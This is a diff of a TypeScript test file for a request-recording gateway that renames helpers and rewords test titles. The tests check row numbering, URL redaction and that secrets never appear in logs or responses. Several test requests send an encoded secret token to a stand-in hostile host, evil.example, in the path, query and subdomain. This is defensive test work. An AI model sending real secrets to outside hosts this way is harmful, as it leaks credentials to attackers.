@@ -1,8 +1,8 @@
 import { describe, expect, test } from "vitest";
-import { get, post, recorded, secrets, twoHosts } from "./recorded_gateway.ts";
+import { get, post, recordGateway, secrets, threeHosts } from "../recorded_gateway.ts";
 
-test("every request is one row, in order, numbered anew after each drain", async () => {
-  const { gateway, logged } = recorded(twoHosts, () => new Response("0123456789"));
+test("every request has one row, in order, and numbering restarts after each drain", async () => {
+  const { gateway, logged } = recordGateway(threeHosts, () => new Response("0123456789"));
   await gateway.fetch(get("https://open.example.com/a"));
   await gateway.fetch(post("https://api.example.com/v1/b", "body"));
   await gateway.fetch(get("https://evil.example/c"));
@@ -49,7 +49,7 @@ test("every request is one row, in order, numbered anew after each drain", async
   expect(gateway.drain()).toMatchObject([{ n: 1 }]);
 });
 
-describe("a row's URL", () => {
+describe("the URL of a row", () => {
   test.each([
     [
       "https://open.example.com/a?page=2&sort=-name",
@@ -67,31 +67,31 @@ describe("a row's URL", () => {
     ["https://user:pass@bad host/a?b=c", "https://***@bad host/a"],
     ["data:text/plain,hello", "data:***"],
     [`https://open.example.com/${secrets.OTHER}/x`, "https://open.example.com/[redacted]/x"],
-  ])("%s is kept as %s", async (url, kept) => {
-    const { gateway } = recorded(twoHosts, () => new Response());
+  ])("%s is logged as %s", async (url, logged) => {
+    const { gateway } = recordGateway(threeHosts, () => new Response());
     await gateway.fetch(get(url));
-    expect(gateway.drain()[0]?.url).toBe(kept);
+    expect(gateway.drain()[0]?.url).toBe(logged);
   });
 });
 
-test("the log line has no query", async () => {
-  const { gateway, logged } = recorded(twoHosts, () => new Response());
+test("the log line contains no query", async () => {
+  const { gateway, logged } = recordGateway(threeHosts, () => new Response());
   await gateway.fetch(get("https://open.example.com/a?page=2"));
   expect(logged[0]?.url).toBe("https://open.example.com/a");
 });
 
-test("no secret stands in any row, line or refusal", async () => {
-  const { gateway, logged } = recorded(twoHosts, () => {
+test("no row, log line or response contains a secret", async () => {
+  const { gateway, logged } = recordGateway(threeHosts, () => {
     throw new Error("down");
   });
   const value = encodeURIComponent(secrets.TOKEN ?? "");
-  const answers = await Promise.all([
+  const responses = await Promise.all([
     gateway.fetch(get(`https://evil.example/${value}?x=${value}`)),
     gateway.fetch(get(`https://api.example.com/v1/${value}`)),
     gateway.fetch({ ...get("https://open.example.com/"), method: secrets.TOKEN ?? "" }),
     gateway.fetch(get(`https://${secrets.OTHER}.evil.example/`)),
   ]);
-  const bodies = answers.map((one) => new TextDecoder().decode(one.body));
+  const bodies = responses.map(({ body }) => new TextDecoder().decode(body));
   const all = JSON.stringify([gateway.drain(), logged, bodies]);
   expect(all).not.toContain(value);
   expect(all).not.toContain(secrets.TOKEN);
